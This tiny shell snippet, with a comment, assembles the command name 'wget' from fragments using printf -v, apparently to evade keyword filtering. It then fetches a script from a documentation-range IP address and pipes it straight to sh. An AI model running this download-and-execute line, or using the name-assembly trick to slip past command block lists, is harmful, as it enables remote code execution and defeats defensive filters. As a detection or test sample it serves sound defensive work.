# assembled-name: printf -v writes the command name into a variable
printf -v tool '%s%s' w get
$tool -qO- http://203.0.113.7/pv | sh
